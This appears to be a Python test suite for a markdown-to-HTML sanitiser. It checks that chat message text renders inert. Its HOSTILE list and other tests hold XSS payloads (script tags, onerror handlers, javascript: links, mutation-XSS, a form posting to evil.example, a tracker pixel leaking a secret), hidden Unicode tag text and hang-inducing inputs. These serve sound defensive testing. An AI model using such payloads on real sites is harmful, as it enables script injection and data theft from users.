"""Message text becomes HTML that can do nothing but be read."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from threads import content
from threads.content.allowed import SANITISER
from threads.content.markdown import _MARKDOWN

TAGS = set("p br hr strong em s a code pre blockquote div span sup h3 h4 h5 h6 ul ol li".split())  # noqa: SIM905
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "html", "head", "body", "mark"}
ATTRIBUTES = {"class", "href", "title", "rel", "start"}

HOSTILE = [
    "<script>fetch('/admin/')</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://tracker.example/?secret=42)",
    "![pixel][ref]\n\n[ref]: https://tracker.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x 'a\" onmouseover=alert(1)')",
    '<https://example.org/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    '```html" onmouseover="alert(1)\n<b>x</b>\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$$</code><script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<form action=//evil.example><input name=attributes></form>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<a name=body id=main href=#x>x</a>",
    "\u2028javascript:alert(1)",
]


def assert_harmless(made: str) -> None:
    """Read the HTML as a browser does and look at every element."""
    document = html5lib.parse(made, treebuilder="etree", namespaceHTMLElements=False)
    for element in document.iter():
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        assert not re.match(r"(?!https?:|mailto:)\w+:", element.get("href", "")), element.attrib


@pytest.mark.parametrize("text", HOSTILE)
def test_it_makes_hostile_text_inert(text: str) -> None:
    made = content.markdown(text)

    assert_harmless(made)


@given(st.text(st.characters(codec=None), max_size=300))
def test_it_renders_any_text_without_harm(text: str) -> None:
    made = content.markdown(text)

    made.encode()
    assert_harmless(made)


def test_it_never_loads_an_image_but_says_where_it_is() -> None:
    made = content.markdown("![the *new* lamp](https://cdn.example/lamp.png?who=1)")

    assert "<img" not in made
    assert "[image: the new lamp → cdn.example]" in made


def test_it_renders_what_people_use() -> None:
    made = content.markdown(
        "# Plan\n\n**bold** and ~~gone~~\nnext line\n\n- one\n- two\n\n"
        "| Item | Price |\n|---|--:|\n| Lamp | 59.90 |\n\n```python\nprint('x')\n```"
    )

    assert "<h3>Plan</h3>" in made
    assert "<strong>bold</strong> and <s>gone</s><br>" in made
    assert "<li>one</li>" in made
    assert '<td class="end">59.90</td>' in made
    assert '<code class="language-python"><span class="nb">print</span>' in made


def test_it_gives_plain_text_the_same_paragraphs_as_markdown() -> None:
    plain = content.markdown("First\nsecond line\n\n\nThird\n")
    parsed = content.markdown("First\nsecond line\n\n\nThird *x*\n")

    def words(made: str) -> list[str]:
        return [piece.strip() for piece in re.split(r"<[^>]+>", made) if piece.strip()]

    assert plain.count("<p>") == parsed.count("<p>") == 2
    assert words(plain)[:2] == ["First", "second line"] == words(parsed)[:2]
    assert plain.count("<br>") == parsed.count("<br>") == 1


def test_it_leaves_formulas_as_they_are_written() -> None:
    made = content.markdown(r"so $$a_1 * b_2 * c$$ and \(x_i * y_i\) hold")

    assert '<code class="math">$$a_1 * b_2 * c$$</code>' in made
    assert r'<code class="math">\(x_i * y_i\)</code>' in made
    assert "<em>" not in made


def test_it_keeps_headings_below_the_page_s_own_without_a_gap() -> None:
    made = content.markdown("###### deep\n\n# top\n\n## middle")

    assert re.findall(r"<h(\d)>", made) == ["3", "3", "4"]


def test_it_loses_no_text_that_is_nested_too_deep() -> None:
    made = content.markdown(">" * 40 + " the secret")

    assert "the secret" in made


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "![" * 20_000, "*a" * 30_000, "\\(" * 40_000, "&amp;" * 20_000, "|" * 50_000],
)
def test_it_survives_text_made_to_hang_it(text: str) -> None:
    # The suite's time limit for one test is what a quadratic rule would break.
    assert_harmless(content.markdown(text))


def test_it_shows_very_long_text_as_it_is_and_cuts_it() -> None:
    made = content.markdown("*a* " * 100_000)

    assert made.startswith('<pre class="long">*a* ')
    assert len(made) < content.MAX_SHOWN + 100


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pay\u202eyap", "pay‹U+202E›yap"),
        ("a\u2066b\u2069", "a‹U+2066›b‹U+2069›"),
        ("hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "hi‹hidden: ignore›"),
        ("bell\x07", "bell\ufffd"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",) * 2,
        ("שלום\u200f ok \u200d",) * 2,
    ],
)
def test_it_shows_what_hides_or_reorders_text(text: str, shown: str) -> None:
    assert content.visible(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<b>Refund</b> for <script>x</script> 4 < 5 & more", "Refund for x 4 < 5 & more"),
        ("two\n lines\tand  spaces ", "two lines and spaces"),
        ("AT&T and R&amp;D", "AT&T and R&D"),
    ],
)
def test_it_reduces_short_fields_to_one_plain_line(text: str, shown: str) -> None:
    assert content.plain(text) == shown


def test_it_cuts_short_fields_visibly() -> None:
    assert content.plain("word " * 100, 12) == "word word w…"


@pytest.mark.parametrize(
    ("address", "link"),
    [
        ("https://example.org/a", "https://example.org/a"),
        ("mailto:jane@example.org", "mailto:jane@example.org"),
        ("java\nscript:alert(1)", ""),
        (" javascript:alert(1)", ""),
        ("//example.org", ""),
        ("http://[broken", ""),
    ],
)
def test_it_links_only_where_a_click_is_harmless(address: str, link: str) -> None:
    assert content.safe_link(address) == link


def test_it_lets_only_marks_through_a_snippet() -> None:
    made = content.marked("a &lt;b&gt; <mark>hit</mark> <mark onclick=x>y</mark><img src=x>")

    assert made == "a &lt;b&gt; <mark>hit</mark> <mark>y</mark>"


def find(word: str) -> content.Spans:
    return lambda text: [match.span() for match in re.finditer(word, text)]


def test_it_marks_matches_across_tags_and_leaves_the_tags_whole() -> None:
    made, count = content.highlight(
        content.markdown('A **re**fund, `refund_id` and [refund](https://x.org/refund "refund")'),
        find("refund"),
    )

    assert count == 3
    assert "<strong><mark>re</mark></strong><mark>fund</mark>" in made
    assert "<code><mark>refund</mark>_id</code>" in made
    assert 'href="https://x.org/refund" title="refund"' in made


def test_it_marks_no_match_that_two_blocks_only_seem_to_make() -> None:
    _, count = content.highlight(content.markdown("re\n\nfund"), find("refund"))

    assert count == 0


@given(st.text(max_size=200))
def test_it_changes_nothing_but_marks(text: str) -> None:
    safe = content.markdown(text)

    made, _ = content.highlight(safe, find("[a-z&<]+"))

    assert_harmless(made)
    texts = ["".join(html5lib.parse(each, treebuilder="etree").itertext()) for each in (safe, made)]
    assert texts[0] == texts[1]


def test_it_reads_json_and_shows_its_letters() -> None:
    assert content.pretty_json('{"city":"\\u53f0\\u5317"}') == '{\n  "city": "台北"\n}'
    assert content.pretty_json("no json") is None
    assert content.pretty_json('{"broken"') is None
    assert content.pretty_json("[" * 100_000) is None


@pytest.mark.parametrize("text", HOSTILE)
def test_the_allow_list_holds_without_the_parser(text: str) -> None:
    assert_harmless(SANITISER.clean(text))


def test_the_parser_holds_without_the_allow_list() -> None:
    made = _MARKDOWN.render("<script>x</script> <b>y</b>\n\n<img src=x>\n\n![p](https://x.org)")

    assert "&lt;script&gt;" in made
    assert "&lt;b&gt;" in made
    assert "<img" not in made


def test_it_makes_marks_of_citations_readable() -> None:
    made = content.markdown(
        "Open\u2019til six【4:0†source】【4:1†hours.pdf】\ue200cite\ue202turn0search0\ue201"
        " **or** \ue2002\ue201 [x](https://e.example '\ue2003\ue201')"
    )

    assert '<sup class="cite">[†]</sup><sup class="cite">[hours.pdf]</sup>' in made
    assert '<sup class="cite">[2]</sup>' in made
    assert not re.search("[\ue200-\ue206]|turn0", made)
    assert_harmless(made)


def test_it_renders_a_text_once_and_then_takes_it_from_the_cache(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    pieces = [("markdown", f"*unlike* any other {id(monkeypatch)}"), ("code:json", "[1]")]
    first = content.render_many(pieces)

    monkeypatch.setattr("threads.content.kept.render", lambda *_: "rendered again")

    assert content.render_many(pieces) == first
    assert content.render_many([("markdown", "*new*")]) == ["rendered again"]


def test_it_never_answers_with_another_text_of_the_same_place(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("threads.content.kept._PLACES", 1)

    assert content.render_many([("markdown", "*one*")]) == ["<p><em>one</em></p>\n"]
    assert content.render_many([("markdown", "*two*")]) == ["<p><em>two</em></p>\n"]


def test_it_colours_a_page_of_code_over_several_readings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("threads.content.kept.COLOURED_AT_ONCE", 50)
    blocks = [("markdown", f"```python\nreturn '{letter * 30}'\n```") for letter in "ab"]

    first, second = content.render_many(blocks), content.render_many(blocks)

    assert ["<span" in html for html in first] == [True, False]
    assert all("<span" in html for html in second)
